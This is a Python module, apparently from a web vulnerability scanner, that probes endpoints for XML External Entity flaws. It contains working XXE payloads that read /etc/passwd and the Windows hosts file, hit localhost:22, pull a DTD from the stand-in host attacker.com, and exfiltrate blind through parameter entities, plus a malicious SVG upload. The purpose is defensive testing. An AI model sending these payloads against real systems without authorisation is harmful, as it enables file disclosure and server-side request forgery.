"""
XML External Entity probe.
"""

import logging
import re

from dast_scanner.matching import first_indicator, first_match, rule_table
from dast_scanner.models import Finding, ProbeResponse, Severity
from dast_scanner.probes.base import MISCONFIG, ProbeContext, truncate

logger = logging.getLogger(__name__)

NAME = "xxe"

XXE_PAYLOADS = [
    """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY >
<!ENTITY xxe SYSTEM "file:///etc/passwd" >
]>
<foo>&xxe;</foo>""",
    """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY >
<!ENTITY xxe SYSTEM "file:///C:/windows/system32/drivers/etc/hosts" >
]>
<foo>&xxe;</foo>""",
    """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY >
<!ENTITY xxe SYSTEM "http://localhost:22" >
]>
<foo>&xxe;</foo>""",
    """<?xml version="1.0"?>
<!DOCTYPE data [
<!ENTITY file SYSTEM "file:///etc/passwd">
]>
<data>&file;</data>""",
    """<?xml version="1.0"?>
<!DOCTYPE root [
<!ENTITY % xxe SYSTEM "http://attacker.com/evil.dtd">
%xxe;
]>
<root/>""",
    # blind, parameter entities
    """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE data [
<!ENTITY % file SYSTEM "file:///etc/passwd">
<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>">
%eval;
%error;
]>
<data/>""",
]

XXE_ERROR_RULES = rule_table(
    [
        r"XMLReader",
        r"xmlParseEntityRef",
        r"DOCTYPE",
        r"ENTITY",
        r"xmlParseStartTag",
        r"xmlParseElementStart",
        r"libxml",
        r"SAXParseException",
        r"XmlException",
        r"DocumentBuilder",
        r"TransformerFactory",
        r"SAXParser",
    ],
    flags=re.I,
    title="Potential XXE Vulnerability",
    severity=Severity.HIGH,
    cwe="CWE-611",
    owasp=MISCONFIG,
    recommendation="Disable DTD processing and external entities in XML parsers",
)

FILE_INDICATORS = [
    "root:x:",
    "daemon:x:",
    "bin:x:",
    "Windows IP Configuration",
    "hosts",
    "localhost",
]

XML_ENDPOINTS = [
    "/api/xml",
    "/api/soap",
    "/api/upload",
    "/api/import",
    "/api/process",
    "/soap",
    "/xmlrpc",
    "/api/v1/xml",
]

SVG_UPLOAD_ENDPOINTS = ["/upload", "/api/upload", "/api/import", "/files"]
NEGOTIATION_ENDPOINTS = ["/api/data", "/api/users", "/api/items", "/graphql"]

SVG_WITH_XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <text x="10" y="20">&xxe;</text>
</svg>"""

NEGOTIATION_PAYLOAD = """<?xml version="1.0"?>
<!DOCTYPE foo [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>"""

NEGOTIATION_MARKERS = ("root:x:", "DOCTYPE", "xmlParse")


def evaluate_xml(endpoint: str, payload: str, response: ProbeResponse) -> list[Finding]:
    findings = []
    indicator = first_indicator(FILE_INDICATORS, response.body)
    if indicator:
        findings.append(Finding(
            severity=Severity.CRITICAL,
            title="XXE Vulnerability - File Disclosure",
            description=f'XXE vulnerability allows file system access via "{endpoint}"',
            url=endpoint,
            payload=payload,
            evidence=f"Found in response: {indicator}",
            cwe="CWE-611",
            owasp=MISCONFIG,
            recommendation="Disable external entity processing in XML parser configuration",
        ))

    rule = first_match(XXE_ERROR_RULES, response.body)
    if rule is not None:
        findings.append(rule.to_finding(
            endpoint,
            payload=payload,
            evidence=f"Error pattern: {rule.source}",
            description=f'XML parsing error indicates XXE may be possible at "{endpoint}"',
        ))
    return findings


def evaluate_svg_upload(endpoint: str, response: ProbeResponse) -> Finding | None:
    if "root:x:" not in response.body and "daemon:x:" not in response.body:
        return None
    return Finding(
        severity=Severity.CRITICAL,
        title="XXE via SVG Upload",
        description=f'SVG file upload at "{endpoint}" is vulnerable to XXE',
        url=endpoint,
        evidence="File content disclosed in response",
        cwe="CWE-611",
        owasp=MISCONFIG,
        recommendation="Sanitize uploaded SVG files or disable external entities in XML parser",
    )


def evaluate_negotiation(endpoint: str, response: ProbeResponse) -> Finding | None:
    if not any(marker in response.body for marker in NEGOTIATION_MARKERS):
        return None
    return Finding(
        severity=Severity.HIGH,
        title="XXE via Content Negotiation",
        description=f'Endpoint "{endpoint}" accepts XML input and may be vulnerable to XXE',
        url=endpoint,
        evidence=truncate(response.body),
        cwe="CWE-611",
        owasp=MISCONFIG,
        recommendation="Explicitly reject unexpected content types",
    )


async def run(ctx: ProbeContext) -> None:
    for endpoint in XML_ENDPOINTS:
        for payload in XXE_PAYLOADS:
            response = await ctx.http.post(
                endpoint,
                content=payload,
                headers={"Content-Type": "application/xml", "Accept": "application/xml"},
                timeout=10,
            )
            if response is None:
                continue
            ctx.report(evaluate_xml(endpoint, payload, response))

    for endpoint in SVG_UPLOAD_ENDPOINTS:
        response = await ctx.http.post(
            endpoint,
            files={"file": ("test.svg", SVG_WITH_XXE, "image/svg+xml")},
            timeout=15,
        )
        if response is None:
            continue
        finding = evaluate_svg_upload(endpoint, response)
        if finding:
            ctx.report([finding])

    for endpoint in NEGOTIATION_ENDPOINTS:
        response = await ctx.http.post(
            endpoint,
            content=NEGOTIATION_PAYLOAD,
            headers={"Content-Type": "application/xml", "Accept": "application/json"},
            timeout=10,
        )
        if response is None:
            continue
        finding = evaluate_negotiation(endpoint, response)
        if finding:
            ctx.report([finding])
